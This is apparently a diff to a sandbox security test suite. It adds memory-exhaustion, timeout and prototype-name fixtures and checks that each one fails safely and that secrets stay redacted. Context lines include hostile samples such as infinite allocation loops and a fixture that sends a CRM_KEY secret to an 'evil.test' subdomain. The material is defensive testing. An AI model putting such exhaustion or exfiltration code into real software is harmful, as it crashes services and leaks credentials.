@@ -52,8 +52,10 @@ export const forgotten = () => { void call('silence', {}); return 'done'; };
 
 export const memoryBomb = () => { const all: string[] = []; for (;;) all.push('x'.repeat(100_000) + all.length); };
 export const bufferBomb = () => { const all: Uint8Array[] = []; for (;;) all.push(new Uint8Array(1_000_000)); };
+export const moreThanItsShare = () => Array.from({ length: 40 }, () => new Uint8Array(1_000_000)).length;
 export const caughtMemoryBomb = async () => { const all: Uint8Array[] = []; try { for (;;) all.push(new Uint8Array(100_000)); } catch {} try { for (;;) all.push(new Uint8Array(100)); } catch {} const more: object[] = []; for (;;) more.push({}); };
-export const hugeText = () => 'x'.repeat(10_000_000);
+export const hugeText = () => 'x'.repeat(1_000_000);
+export const hugerText = () => 'x'.repeat(12_000_000);
 export const hugeError = () => { throw new Error('x'.repeat(10_000_000)); };
 export const deepCalls = () => { const down = (): number => 1 + down(); return down(); };
 export const deepValue = () => { let value: unknown = 0; for (let i = 0; i < 20_000; i += 1) value = [value]; return value; };
@@ -124,7 +126,7 @@ export const secretEverywhere = async () => {
 };
 export const secretInError = () => { throw new Error('with ' + secret('CRM_KEY')); };
 export const secretSentTo = (event: any) => http({ method: 'POST', url: event.url, headers: { authorization: 'Bearer ' + secret('CRM_KEY') }, json: { key: secret('CRM_KEY') } })
-  .then((answer) => { log('it said ' + JSON.stringify(answer)); return answer; }, (error) => ({ code: error.code, message: error.message }));
+  .then((answer) => { log('it said ' + JSON.stringify(answer)); log([...answer.json.authorization].join('.')); return answer; }, (error) => ({ code: error.code, message: error.message }));
 export const secretInUrl = (event: any) => http({ url: event.url + '?key=' + secret('CRM_KEY') }).catch((error) => ({ code: error.code, message: error.message }));
 export const secretInHost = () => http({ url: 'https://' + secret('CRM_KEY') + '.evil.test/' }).catch((error) => ({ code: error.code }));
 export const forgedMark = (event: any) => http({ method: 'POST', url: event.url, json: { text: '{{countersign:' + event.nonce + ':text:CRM_KEY}}', odd: event.odd } });
@@ -178,7 +180,7 @@ afterAll(async () => {
 
 function grants(): Grants {
   return {
-    calls: ['http', 'echo', 'silence', 'broken'],
+    calls: ['http', 'echo', 'silence', 'broken', 'toString', 'constructor', '__proto__'],
     hosts: [host, '127.0.0.1:1', 'api.example.com'],
     secret: (name, at) => (name === 'CRM_KEY' && at === host ? theKey : undefined),
   };
@@ -253,19 +255,22 @@ describe('what is around the code', () => {
 
 describe('what takes too long', () => {
   it.each([
-    'loop',
-    'caughtLoop',
-    'promiseLoop',
-    'thenLoop',
-    'getterLoop',
-    'toJsonLoop',
-    'errorLoop',
-    'regexpBomb',
-    'neverSettles',
-    'outsideNeverAnswers',
-    'forgotten',
-  ])('is ended, and alone: %s', async (name) => {
-    expect(await attack(name)).toMatchObject({ ok: false, problem: { kind: 'timeout' } });
+    ['loop', 'computed'],
+    ['caughtLoop', 'computed'],
+    ['promiseLoop', 'computed'],
+    ['thenLoop', 'computed'],
+    ['getterLoop', 'computed'],
+    ['toJsonLoop', 'computed'],
+    ['errorLoop', 'computed'],
+    ['regexpBomb', 'computed'],
+    ['neverSettles', 'waits for something that never comes'],
+    ['outsideNeverAnswers', 'waited'],
+    ['forgotten', 'waited'],
+  ])('is ended, and alone: %s', async (name, words) => {
+    const ran = await attack(name);
+    expect(ran).toMatchObject({ ok: false, problem: { kind: 'timeout' } });
+    // Not by the end of its thread, which is for what hears nothing.
+    expect(ran.ok || ran.problem.message).toContain(`It ${words}`);
     await isWell();
   });
 
@@ -296,10 +301,13 @@ describe('what takes too long', () => {
 });
 
 describe('what takes too much', () => {
-  it.each(['memoryBomb', 'bufferBomb'])('is told that it was memory: %s', async (name) => {
-    expect(await attack(name)).toMatchObject({ ok: false, problem: { kind: 'memory' } });
-    await isWell();
-  });
+  it.each(['memoryBomb', 'bufferBomb', 'moreThanItsShare', 'hugerText'])(
+    'is told that it was memory: %s',
+    async (name) => {
+      expect(await attack(name)).toMatchObject({ ok: false, problem: { kind: 'memory' } });
+      await isWell();
+    },
+  );
 
   it('breaks at worst the sandbox, where memory is gone to the last byte', async () => {
     const ran = await attack('caughtMemoryBomb');
@@ -516,6 +524,8 @@ describe('a secret', () => {
       answer: { json: { authorization: 'Bearer (secret CRM_KEY)', padded: '<<Bearer (secret CRM_KEY)>>' } },
     });
     expect(JSON.stringify(ran)).not.toContain(theKey);
+    // Not only hidden from us: the code itself never had it, and could not spell it out.
+    expect(ran.said.at(-1)).toBe([...'Bearer (secret CRM_KEY)'].join('.'));
   });
 
   it('does not leave for another host, though that may be reached', async () => {
